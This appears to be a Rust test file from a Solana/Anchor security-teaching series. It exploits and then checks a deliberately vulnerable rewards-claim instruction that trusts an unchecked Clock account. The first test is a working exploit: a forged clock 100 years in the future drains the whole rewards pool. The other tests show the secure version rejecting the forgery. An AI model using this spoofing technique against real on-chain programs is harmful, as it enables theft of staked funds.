@@ -0,0 +1,200 @@
+/// # Pattern 12: Sysvar Account Spoofing — Mollusk Exploit Tests
+///
+/// The attacker has 10 SOL staked in a pool paying 10% a year, last claimed
+/// at unix_ts 1_700_000_000. The pool holds 100 SOL of rewards.
+///
+/// - Test 1: EXPLOIT — a fake clock 100 years ahead collects the whole pool
+///   through claim_vulnerable.
+/// - Test 2: SECURE — claim_secure's `Sysvar<Clock>` rejects the fake clock.
+/// - Test 3: SANITY — with the real Clock sysvar one year on, claim_secure
+///   pays one year of rewards.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::{create_account_shared_data_for_test, AccountSharedData},
+    clock::Clock,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    sysvar,
+};
+use test_harness::{account_discriminator, ix_discriminator, system_account};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("FEKeokmT2KGwu2EZFDPXEV1TU47Dx3idkQaH4gCiGXfn");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const STAKED: u64 = 10 * SOL;
+const RATE_BPS: u16 = 1_000;
+const REWARDS: u64 = 100 * SOL;
+const LAST_CLAIM: i64 = 1_700_000_000;
+const YEAR: i64 = 365 * 86_400;
+
+// Error codes
+const ACCOUNT_SYSVAR_MISMATCH: u32 = 3015;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Stake account: [8 disc][32 owner][8 amount][8 last_claim][1 bump]
+fn serialize_stake(owner: &Pubkey, last_claim: i64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(57);
+    data.extend_from_slice(&account_discriminator("Stake"));
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&STAKED.to_le_bytes());
+    data.extend_from_slice(&last_claim.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// The pool PDA holding REWARDS above rent: [8 disc][32 admin][2 reward_rate_bps][1 bump]
+fn pool() -> (Pubkey, AccountSharedData) {
+    let (address, bump) = Pubkey::find_program_address(&[b"pool"], &PROGRAM_ID);
+    let mut data = account_discriminator("Pool").to_vec();
+    data.extend_from_slice(Pubkey::new_unique().as_ref());
+    data.extend_from_slice(&RATE_BPS.to_le_bytes());
+    data.push(bump);
+    let mut account = AccountSharedData::new(RENT + REWARDS, data.len(), &PROGRAM_ID);
+    account.set_data_from_slice(&data);
+    (address, account)
+}
+
+/// `owner`'s stake PDA. Returns (address, account, bump).
+fn stake(owner: &Pubkey) -> (Pubkey, AccountSharedData, u8) {
+    let (address, bump) = Pubkey::find_program_address(&[b"stake", owner.as_ref()], &PROGRAM_ID);
+    let data = serialize_stake(owner, LAST_CLAIM, bump);
+    let mut account = AccountSharedData::new(RENT, data.len(), &PROGRAM_ID);
+    account.set_data_from_slice(&data);
+    (address, account, bump)
+}
+
+/// An attacker-owned account laid out like `Clock`:
+/// [8 slot][8 epoch_start_timestamp][8 epoch][8 leader_schedule_epoch][8 unix_timestamp]
+fn fake_clock_account(unix_timestamp: i64) -> AccountSharedData {
+    let mut data = vec![0u8; 40];
+    data[32..40].copy_from_slice(&unix_timestamp.to_le_bytes());
+    let mut account = AccountSharedData::new(1_000_000, data.len(), &Pubkey::new_unique());
+    account.set_data_from_slice(&data);
+    account
+}
+
+fn real_clock_account(unix_timestamp: i64) -> AccountSharedData {
+    create_account_shared_data_for_test(&Clock {
+        unix_timestamp,
+        ..Clock::default()
+    })
+}
+
+fn claim_ix(name: &str, pool: Pubkey, stake: Pubkey, owner: Pubkey, clock: Pubkey) -> Instruction {
+    Instruction::new_with_bytes(
+        PROGRAM_ID,
+        &ix_discriminator(name),
+        vec![
+            AccountMeta::new(pool, false),
+            AccountMeta::new(stake, false),
+            AccountMeta::new(owner, true),
+            AccountMeta::new_readonly(clock, false),
+        ],
+    )
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_fake_clock_accrues_a_century() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: The attacker passes their own 40-byte "clock" with
+    // unix_timestamp 100 years after their last claim to claim_vulnerable.
+    //
+    // Expected: SUCCEEDS — 10 SOL × 10% × 100 years = 100 SOL paid, and the
+    //           stake records a last claim a century in the future.
+    // -----------------------------------------------------------------------
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "sysvar_spoofing");
+    mollusk.sysvars.clock.unix_timestamp = LAST_CLAIM + 60;
+    let attacker = Pubkey::new_unique();
+    let (pool, pool_account) = pool();
+    let (stake, stake_account, bump) = stake(&attacker);
+    let fake_clock = Pubkey::new_unique();
+    let future = LAST_CLAIM + 100 * YEAR;
+
+    mollusk.process_and_validate_instruction(
+        &claim_ix("claim_vulnerable", pool, stake, attacker, fake_clock),
+        &[
+            (pool, pool_account),
+            (stake, stake_account),
+            (attacker, system_account(RENT)),
+            (fake_clock, fake_clock_account(future)),
+        ],
+        &[
+            Check::success(),
+            Check::account(&pool).lamports(RENT).build(),
+            Check::account(&attacker).lamports(RENT + REWARDS).build(),
+            Check::account(&stake)
+                .data(&serialize_stake(&attacker, future, bump))
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_sysvar_rejects_fake_clock() {
+    // -----------------------------------------------------------------------
+    // SECURE: The same fake clock passed to claim_secure.
+    //
+    // Expected: FAILS with AccountSysvarMismatch (3015) — its key is not
+    //           sysvar::clock::ID, so Anchor never reads its bytes.
+    // -----------------------------------------------------------------------
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "sysvar_spoofing");
+    mollusk.sysvars.clock.unix_timestamp = LAST_CLAIM + 60;
+    let attacker = Pubkey::new_unique();
+    let (pool, pool_account) = pool();
+    let (stake, stake_account, _) = stake(&attacker);
+    let fake_clock = Pubkey::new_unique();
+
+    mollusk.process_and_validate_instruction(
+        &claim_ix("claim_secure", pool, stake, attacker, fake_clock),
+        &[
+            (pool, pool_account),
+            (stake, stake_account),
+            (attacker, system_account(RENT)),
+            (fake_clock, fake_clock_account(LAST_CLAIM + 100 * YEAR)),
+        ],
+        &[Check::err(ProgramError::Custom(ACCOUNT_SYSVAR_MISMATCH))],
+    );
+}
+
+#[test]
+fn sanity_real_clock_accrues_one_year_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY: One year after the last claim, the staker calls claim_secure
+    // with the real Clock sysvar.
+    //
+    // Expected: SUCCEEDS — 10 SOL × 10% × 1 year = 1 SOL paid.
+    // -----------------------------------------------------------------------
+    let now = LAST_CLAIM + YEAR;
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "sysvar_spoofing");
+    mollusk.sysvars.clock.unix_timestamp = now;
+    let owner = Pubkey::new_unique();
+    let (pool, pool_account) = pool();
+    let (stake, stake_account, bump) = stake(&owner);
+
+    mollusk.process_and_validate_instruction(
+        &claim_ix("claim_secure", pool, stake, owner, sysvar::clock::ID),
+        &[
+            (pool, pool_account),
+            (stake, stake_account),
+            (owner, system_account(RENT)),
+            (sysvar::clock::ID, real_clock_account(now)),
+        ],
+        &[
+            Check::success(),
+            Check::account(&pool).lamports(RENT + REWARDS - SOL).build(),
+            Check::account(&owner).lamports(RENT + SOL).build(),
+            Check::account(&stake)
+                .data(&serialize_stake(&owner, now, bump))
+                .build(),
+        ],
+    );
+}